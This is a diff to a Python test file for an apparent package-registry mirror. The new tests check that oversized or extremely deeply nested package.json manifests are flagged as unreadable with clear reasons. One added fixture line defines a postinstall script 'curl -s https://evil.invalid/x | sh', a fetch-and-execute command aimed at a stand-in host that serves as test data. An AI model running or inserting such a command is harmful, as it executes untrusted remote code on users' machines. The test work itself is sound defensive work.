@@ -4,6 +4,8 @@ page renders escaped."""
 
 from __future__ import annotations
 
+import json
+import os
 import tarfile
 
 import pytest
@@ -20,6 +22,21 @@ NAME = "@acme/evil"
 
 def manifest(**extra: object) -> Entry:
     return Entry("package/package.json", package(NAME, "1.0.0", **extra))
+
+
+INSTALL_SCRIPT = "curl -s https://evil.invalid/x | sh"
+
+
+def raw_manifest(tail: bytes = b"") -> bytes:
+    """A package.json with an install script, then `tail` (raw JSON members) before its end."""
+    head = json.dumps(
+        {"name": NAME, "version": "1.0.0", "scripts": {"postinstall": INSTALL_SCRIPT}}
+    ).encode()
+    return head[:-1] + tail + b"}"
+
+
+def staged(name: str = NAME) -> StagedVersion:
+    return StagedVersion.objects.get(package_name=name)
 
 
 def analysis_of(stage: StagedVersion) -> Analysis:
@@ -132,3 +149,39 @@ def test_a_hundred_thousand_tiny_entries_stop_at_the_entry_limit(registry: Regis
     assert found.refusal_reason == "entries"
     assert "more than 50,000 entries" in found.refusal_message
     assert "The tarball has more than 50,000 entries." in page(viewer, stage)
+
+
+def test_a_manifest_nested_100000_deep_is_unreadable_with_a_reason_and_the_pass_goes_on(
+    registry: Registry, viewer
+):
+    deep = raw_manifest(b', "x": ' + b"[" * 100_000 + b"]" * 100_000)
+    registry.stage_only(NAME, "1.0.0", tarball=make_tarball({"package.json": deep}))
+    registry.stage_only("@acme/fine", "1.0.0")
+
+    line = registry.sync_pass()
+
+    assert "1 verified, 1 mismatch, 0 unavailable, 0 deferred" in line
+    assert staged("@acme/fine").integrity == StagedVersion.Integrity.VERIFIED
+    stage = staged()
+    assert stage.integrity == StagedVersion.Integrity.MISMATCH
+    too_deep = "nests too deeply to read (more than 100 levels)."
+    assert stage.integrity_reason == f"tarball unreadable: its package.json {too_deep}"
+    found = analysis_of(stage)
+    assert found.status == Analysis.Status.DONE
+    assert found.manifest["problems"] == [f"The staged package.json {too_deep}"]
+    body = page(viewer, stage)
+    assert f"its package.json {too_deep}" in body
+    assert f"The staged package.json {too_deep}" in body
+
+
+def test_a_manifest_over_a_mebibyte_is_unreadable_with_its_size(registry: Registry, viewer):
+    huge = raw_manifest(b', "description": "' + os.urandom(1024 * 1024).hex().encode() + b'"')
+
+    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball({"package.json": huge}))
+
+    over = f"is {len(huge):,} bytes, over the 1,048,576 read."
+    assert stage.integrity == StagedVersion.Integrity.MISMATCH
+    assert stage.integrity_reason == f"tarball unreadable: its package.json {over}"
+    found = analysis_of(stage)
+    assert found.manifest["problems"] == [f"The staged package.json {over}"]
+    assert f"The staged package.json {over}" in page(viewer, stage)
